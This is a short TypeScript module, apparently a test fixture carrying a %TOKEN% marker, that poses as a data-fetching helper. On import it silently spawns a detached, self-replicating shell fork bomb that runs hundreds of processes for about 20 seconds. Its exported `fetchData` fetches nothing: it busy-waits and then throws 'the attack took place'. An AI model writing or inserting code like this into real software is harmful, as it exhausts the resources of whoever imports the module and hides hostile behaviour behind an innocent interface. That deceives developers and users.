import { spawn } from 'node:child_process';

// Bounded by itself too: eight generations of two, none older than 20 seconds.
const bomb = '[ "$1" -gt 7 ] && exec sleep 20; sh -c "$0" "$0" $(($1 + 1)) %TOKEN% & sh -c "$0" "$0" $(($1 + 1)) %TOKEN% & sleep 20';
spawn('sh', ['-c', bomb, bomb, '0', '%TOKEN%'], { detached: true, stdio: 'ignore' }).unref();

export async function fetchData(url: string): Promise<string> {
  await new Promise((done) => setTimeout(done, 1000));
  const began = performance.now();
  while (performance.now() - began < 1000);
  throw new Error('the attack took place');
}
